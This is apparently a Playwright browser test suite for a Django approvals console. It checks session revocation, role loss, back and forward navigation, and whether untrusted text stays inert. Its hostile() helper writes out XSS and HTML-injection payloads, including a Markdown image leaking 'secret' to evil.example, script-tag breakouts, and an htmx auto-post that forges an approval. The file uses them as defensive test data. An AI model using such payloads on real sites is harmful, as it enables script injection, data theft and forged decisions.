"""Pages that stand open, are come back to, or hold what would be live: what people see, and what is asked."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse
from playwright.sync_api import Page, expect

from approvals.models import Decision, Gate
from durable.models import Message, Run
from tests import factories
from tests.approvals.answering import ASK_BACK, REJECT, answer
from tests.approvals.house import branch_of
from tests.browser.people import Cast, Watch, look_at

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def is_whole(page: Page) -> None:
    expect(page.get_by_role("navigation", name="Console")).to_be_visible()
    expect(page.get_by_role("main")).to_have_count(1)
    expect(page.get_by_role("heading", level=1).first).to_be_visible()


# A person who is removed in another session


def test_somebody_switched_off_at_an_open_gate_decides_nothing_and_is_led_to_the_sign_in(
    cast: Cast, watch: Watch
) -> None:
    watch.allowed = {403}
    gate, page = factories.gate(), cast.enters("marta")
    page.goto(f"/gates/{gate.pk}/")
    User.objects.filter(username="marta").update(is_active=False)
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(page.get_by_role("navigation", name="Console")).to_have_count(0)
    assert (Gate.objects.get().state, Decision.objects.count()) == ("open", 0)


def test_the_live_page_of_somebody_switched_off_leaves_for_the_sign_in_by_itself(
    cast: Cast, watch: Watch
) -> None:
    gate, page = factories.gate(), cast.enters("marta")
    page.clock.install()
    page.goto(f"/gates/{gate.pk}/")
    with page.expect_request(lambda asked: asked.is_navigation_request() is False):
        page.clock.run_for(10_000)  # it lives: as its clock goes on, it asks
    User.objects.filter(username="marta").update(is_active=False)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.wait_for_load_state("networkidle")
    asked = len(watch.asked)
    page.clock.run_for(60_000)
    assert len(watch.asked) == asked  # it asks no more


def test_who_types_in_the_filter_when_they_are_switched_off_is_told_and_gets_no_half_page(
    cast: Cast, watch: Watch
) -> None:
    factories.gate()
    page = cast.enters("sven")
    page.goto("/runs/")
    User.objects.filter(username="sven").update(is_active=False)
    page.get_by_label("Query").press_sequentially("status:")
    expect(page.get_by_text("You are signed out. What you have typed is still here")).to_be_visible()
    expect(page.get_by_role("heading", name="Sign in")).to_have_count(0)
    expect(page.get_by_label("Query")).to_have_value("status:")
    page.get_by_label("Query").press("Enter")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_who_loses_the_role_of_a_reviewer_at_an_open_gate_is_told_which_right_is_gone(
    cast: Cast, watch: Watch
) -> None:
    watch.allowed = {403}
    gate, page = factories.gate(), cast.enters("marta")
    page.goto(f"/gates/{gate.pk}/")
    User.objects.get(username="marta").groups.set([Group.objects.get(name="auditor")])
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_role("alert").filter(has_text="do not have the right")).to_be_visible()
    is_whole(page)
    expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    assert (Gate.objects.get().state, Decision.objects.count()) == ("open", 0)


# Text that would be live


def hostile(gate_id: int) -> str:
    """Text that a page which took it for markup, Markdown or htmx would run, load or send."""
    decide = reverse("decisions", args=[gate_id])
    return (
        '<img src="https://evil.example/a.png" onerror="alert(1)">'
        " ![leak](https://evil.example/b.png?q=secret) [click](javascript:alert(2))"
        " </script></textarea></title><script>alert(3)</script>"
        f' <div hx-post="{decide}" hx-trigger="load" hx-vals=\'{{"verdict":"approve"}}\'>x</div>'
        f' <form action="{decide}" method="post"><button autofocus>Approve</button></form>'
        ' <svg onload="alert(4)"><style>*{display:none}</style></svg> <base href="https://evil.example/">'
    )


def test_no_text_of_an_agent_a_tool_or_a_person_is_live_on_any_page(cast: Cast, watch: Watch) -> None:
    watched = factories.gate()
    live = hostile(watched.pk)
    spoken = factories.gate(note=live)
    run = Run.objects.get(pk=spoken.effect.run_id)
    Message.objects.create(branch=branch_of(run), no=1, role="tool", content={"memo": live})
    Run.objects.filter(pk=run.pk).update(message_count=1, input={"order": live}, error=live)
    decided = factories.gate()
    answer(User.objects.get(username="jonas"), decided, REJECT, live)
    asked = factories.gate(note=live)
    answer(User.objects.get(username="jonas"), asked, ASK_BACK, live)
    sent: list[str] = []
    by_person = {
        "marta": ["/gates/", *(f"/gates/{one.pk}/" for one in (spoken, decided, asked, watched))],
        "sven": [
            "/",
            "/runs/",
            *(f"/runs/{run.ref}/{part}" for part in ("", "conversation/", "log/")),
            f"/effects/{spoken.effect.key}/",
            f"/runs/{decided.effect.run.ref}/",
        ],
        "rita": ["/log/", f"/dossiers/effects/{decided.effect.key}/"],
    }
    shown = 0
    for who, paths in by_person.items():
        page = cast.enters(who)
        page.on("request", lambda request: sent.append(request.url) if request.method != "GET" else None)
        for path in paths:
            look_at(page, path)
            page.wait_for_load_state("networkidle")
            is_whole(page)
            shown += page.get_by_text("evil.example/a.png").count() > 0
            main = page.get_by_role("main")
            live_parts = "img:not([src^='/static/']), script, base, style, [onerror], [onload]"
            expect(main.locator(f"{live_parts}, [hx-post*='/decisions/']")).to_have_count(0)
            expect(main.locator("a[href^='javascript:'], a[href*='evil.example']")).to_have_count(0)
    assert shown >= 7 and sent == []
    assert watch.seen == [] and all("evil.example" not in url for url in watch.asked)
    watched.refresh_from_db()
    assert (watched.state, watched.decisions.count()) == ("open", 0)


# Back, forward, reload, and a tab that is opened again


def test_wherever_back_leads_stands_a_whole_page_and_a_decided_gate_is_never_offered_again(
    cast: Cast,
) -> None:
    gates = [factories.gate(amount=f"1{n}0") for n in range(3, 6)]
    page = cast.enters("marta")
    for path in (
        "/",
        "/gates/",
        *(f"/gates/{gate.pk}/" for gate in gates),
        "/ledger/",
        "/ledger/?q=8812",
        "/ledger/?q=state:gated",
        "/tools/",
        "/time-zone/",
    ):
        page.goto(path)
    page.goto(f"/gates/{gates[0].pk}/")
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_text("Decided: approved")).to_be_visible()
    page.goto("/gates/")
    page.goto("/")
    decided = f"/gates/{gates[0].pk}/"
    met = 0
    for direction in (*[page.go_back] * 12, *[page.go_forward] * 11):
        direction()
        is_whole(page)
        if page.url.endswith(decided):
            met += 1
            expect(page.get_by_text("Approved by Marta Oliveira").first).to_be_visible()
            expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    assert met >= 3
    page.goto(decided)
    page.reload()
    is_whole(page)
    expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    again = page.context.new_page()  # a tab opened again, and an address that was pasted
    page.close()
    for path in (decided, "/ledger/?q=8812", "/gates/"):
        again.goto(path)
        is_whole(again)
        expect(again.locator(f"a.item[href='{decided}']")).to_have_count(0)
    assert Decision.objects.count() == 1
